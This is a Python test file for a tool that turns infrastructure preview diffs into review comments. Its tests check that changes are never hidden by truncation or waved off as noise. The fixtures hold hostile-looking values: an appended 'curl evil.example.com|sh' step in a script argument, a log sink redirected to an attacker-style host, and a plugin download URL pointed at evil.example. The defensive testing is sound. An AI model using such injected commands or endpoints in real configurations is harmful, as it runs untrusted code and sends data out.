"""Every difference is seen, wherever in a value it is."""

from typing import Any

import pytest

from vds.preview_comment.difference import LONGEST, diff_lines, noise
from vds.preview_comment.events import Change, Preview
from vds.preview_comment.render import comment, full
from vds.preview_comment.report import StackReport

HEAD = "{" + ",".join(f'"k{number}":"vvvvvvvv"' for number in range(25))
SCRIPT = "#!/bin/sh\nset -e\nA=" + "x" * 320 + " run"
FAR = " ".join(f"word{number}" for number in range(200))


def change(old: Any, new: Any, kind: str = "kubernetes:core/v1:ConfigMap") -> Change:
    return Change(f"urn:pulumi:s::p::{kind}::c", kind, "update", old={"data": old}, new={"data": new})


CASES = {
    "at the end of a line of JSON": (
        {"app.json": HEAD + ',"sink":"https://logs.example.no"}'},
        {"app.json": HEAD + ',"sink":"https://logs.evil.example.com"}'},
    ),
    "at the end of a command": ({"args": [SCRIPT]}, {"args": [SCRIPT + "; curl evil.example.com|sh"]}),
    "in the middle": ({"a": f"{FAR} good {FAR}"}, {"a": f"{FAR} evil {FAR}"}),
    "a harmless one at the start, and one at the end": ({"a": f"one {FAR} good"}, {"a": f"two {FAR} evil"}),
    "a harmless one at both ends": ({"a": f"one {FAR} good {FAR} three"}, {"a": f"two {FAR} evil {FAR} four"}),
    "the second of two in a line of 9,000 words": (
        {"a": f"one {FAR * 20} good {FAR} three"},
        {"a": f"two {FAR * 20} evil {FAR} four"},
    ),
    "in a long text of one word": ({"a": "x" * 5000 + "good" + "x" * 5000}, {"a": "x" * 5000 + "evil" + "x" * 5000}),
    "what is added behind a long part": ({"a": "x" * 900}, {"a": "x" * 900 + "evil"}),
    "what is put in front": ({"a": "x" * 900}, {"a": "evil" + "x" * 900}),
    "a long line among others": ({"a": f"one\n{FAR} good\ntwo"}, {"a": f"one\n{FAR} evil\ntwo"}),
    "at the end of a line that is new": ({"a": "one\n"}, {"a": f"one\n{FAR} evil"}),
    "in a value that is new": ({}, {"a": f"{FAR} evil"}),
    "in a number and a text": ({"a": 1}, {"a": f"{FAR} evil"}),
}


@pytest.mark.parametrize("name", CASES)
def test_a_difference_is_shown_in_the_comment_and_in_the_full_report(name: str) -> None:
    """Finding 7b."""
    preview = Preview((change(*CASES[name]),), complete=True)
    report = StackReport("oslo", ("x",), preview)
    assert "evil" in comment([report])
    assert "evil" in full([report])


@pytest.mark.parametrize("name", CASES)
def test_the_full_report_is_not_cut_and_the_comment_says_how_much_is(name: str) -> None:
    one = change(*CASES[name])
    assert "more) …" not in "".join(diff_lines(one))
    cut = diff_lines(one, LONGEST)
    for line, whole in zip(cut, diff_lines(one), strict=True):
        assert (line == whole) == ("characters more) …" not in line)


def test_two_values_with_too_many_words_to_compare_differ_in_what_is_shown() -> None:
    old = " ".join(str(number) for number in range(9000))
    old_line, new_line = diff_lines(change({"a": f"s {old} e"}, {"a": f"t {old} f"}), LONGEST)
    assert old_line != new_line
    assert (old_line[-1], new_line[-1]) == ("e", "f")


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (True, 1),
        (0, False),
        ("a\nb", "a\x0bb"),
        ("a\n", "a"),
        ("a\r\nb\n", "a\nb\n"),
        ({"x": None}, {}),
        ({"x": []}, {"x": {}}),
        ("", None),
    ],
)
def test_what_looks_the_same_and_is_not_differs(old: Any, new: Any) -> None:
    assert len(diff_lines(change({"k": old}, {"k": new}))) >= 1 + ("\n" in f"{old}{new}")
    assert not noise(change({"k": old}, {"k": new}))


def test_another_order_is_shown_beside_another_value() -> None:
    old = [{"name": "check", "run": "a"}, {"name": "start", "run": "b"}]
    new = [{"name": "start", "run": "c"}, {"name": "check", "run": "a"}]
    assert "! the order of a list changes" in diff_lines(change(old, new))


def test_a_name_cannot_hide_the_value_of_another_item() -> None:
    old = [{"name": "a", "x]": {"y": 1}}, {"name": 'a]["x]"', "y": 2}]
    new = [{"name": "a", "x]": {"y": 9}}, {"name": 'a]["x]"', "y": 2}]
    assert len(diff_lines(change(old, new))) == 2


def test_where_a_plugin_comes_from_and_a_key_of_a_config_map_are_no_noise() -> None:
    kind = "pulumi:providers:kubernetes"
    provider = Change("u", kind, "update", old={"version": "4.1.0"}, new={"version": "4.2.0"})
    assert noise(provider) == "an SDK's version"
    other = Change("u", kind, "update", old={}, new={"pluginDownloadURL": "https://evil.example"})
    assert not noise(other)
    assert not noise(change({"managedFields": "a"}, {"managedFields": "b"}))
